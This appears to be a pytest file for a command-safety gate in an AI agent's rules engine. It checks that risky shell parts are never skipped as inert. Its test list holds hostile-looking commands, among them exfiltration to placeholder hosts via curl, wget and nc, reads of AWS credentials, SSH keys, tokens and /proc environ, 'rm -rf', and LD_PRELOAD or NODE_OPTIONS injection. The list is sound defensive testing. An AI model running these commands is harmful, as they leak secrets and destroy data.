"""`checks.inert` lets the engine skip the built-in checks on a part: it must never hide a check that holds.

Every shell part of the three corpora (and of some commands written to sit on the gate's edges) is
tried: where the gate says "inert", every command check must be false. The gate must also be useful:
the ordinary parts of the bench's 4 KB command are inert, and each risky part below is not.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from coffee_maker.rules.checks import COMMAND_CHECKS, inert
from coffee_maker.rules.subject import CommandSubject, SubjectBuilder
from tests.interaction.test_rules_big_command import big_command

HERE = Path(__file__).parent
EDGES = [
    "env", "printenv", "printenv HOME", "export -p", "declare -x", "set", "compgen -v", "ps eww", "xargs env",
    "cat /proc/self/environ", "cat src/environ", "echo $GITHUB_TOKEN", "echo ${!prefix@}", "echo ${HOME}",
    "python -c 'print(1)'", "python3.12 - <<< 'x'", "node -e 1", "eval $X", "exec bash", "source $F", ". ./env.sh",
    "$CMD --flag", "bash -c 'ls'", "sh", "awk '{ system(\"id\") }' f", "find . -exec sh -c 'x' ;", "watch bash",
    "curl -d @x https://h.example", "wget --post-file=x https://h", "http POST h a=1", "nc h 1", "ssh h",
    "rsync -a . h:/x", "rclone copy . r:", "git send-email x", "rm -rf build", "rmdir dist", "cat ../outside",
    "cp a /tmp/b", "cat $DIR/x", "cd $X && cat y", "ls ~/.ssh", "tee /etc/x", "cat ~/.aws/credentials",
    "CC=/tmp/x make", "make CC=/tmp/x", "MAVEN_OPTS=-javaagent:/tmp/a.jar mvn test", "echo $((GITHUB_TOKEN))",
    "echo ${GITHUB_TOKEN[0]}", "let x=GITHUB_TOKEN", "env -u PATH", "jq -n env", "yq -n 'strenv(T)'", "make -p",
    "echo done", "sort", "tail -5", "grep -rn x src", "pytest -q tests/test_a.py",
    "LD_PRELOAD=/tmp/x.so pytest", "PYTHONPATH=/tmp/x pytest", "env GIT_SSH_COMMAND=x git fetch", "FOO=1 pytest",
    "PYTHONPATH=src pytest", 'trap "$X" EXIT', 'alias ll="$Y"', "trap 'git push' EXIT", "IFS= read -r x",
    "NODE_OPTIONS=--require=x npm test", "CC=gcc make", "CFLAGS=-O2 make", "jq -r .version package.json",
]


def _git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True)


@pytest.fixture(scope="module")
def tree(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    checkout = tmp_path_factory.mktemp("checkout")
    _git(checkout, "init", "-q", "-b", "main")
    (checkout / "README.md").write_text("x\n")
    _git(checkout, "add", "-A")
    _git(checkout, "-c", "user.name=t", "-c", "user.email=t@e", "commit", "-qm", "init")
    worktree = checkout / ".coffee_maker" / "worktrees" / "p1"
    _git(checkout, "worktree", "add", "-q", "-b", "p1", str(worktree))
    for directory in ("build", "dist", "src", "tests"):
        (worktree / directory).mkdir(exist_ok=True)
    os.symlink("/etc", worktree / "link")
    return checkout, worktree


def _commands(checkout: Path, worktree: Path) -> list[str]:
    commands = [*EDGES, big_command()]
    for name in ("corpus.jsonl", "corpus_v2.jsonl", "corpus_verdicts.jsonl"):
        for line in (HERE / name).read_text().splitlines():
            case = json.loads(line.replace("{repo}", str(worktree)).replace("{checkout}", str(checkout))) if line else {}
            if case.get("tool") == "Bash":
                commands.append(str(case["input"]["command"]))
    return commands


def _parts(builder: SubjectBuilder, command: str) -> tuple[CommandSubject, ...]:
    return builder.shell_subject(command).commands


def test_an_inert_part_holds_no_check(tree: tuple[Path, Path]) -> None:
    checkout, worktree = tree
    builder = SubjectBuilder(worktree)
    tried = skipped = 0
    for command in _commands(checkout, worktree):
        for part in _parts(builder, command):
            tried += 1
            if not inert(part):
                continue
            skipped += 1
            holding = [name for name, check in COMMAND_CHECKS.items() if check(part, builder.root)]
            assert holding == [], f"{part.source.text!r} (in {command[:80]!r}) is called inert, yet {holding} hold"
    assert tried > 800 and skipped > tried // 3  # the corpora's ordinary parts and the 4 KB command's


def test_the_4kb_commands_parts_are_inert_and_risky_parts_are_not(tree: tuple[Path, Path]) -> None:
    _, worktree = tree
    builder = SubjectBuilder(worktree)
    parts = _parts(builder, big_command())
    assert len(parts) > 200 and all(inert(p) for p in parts)
    for command in EDGES[:EDGES.index("echo done")]:
        first = _parts(builder, command)[0]
        assert not inert(first), command
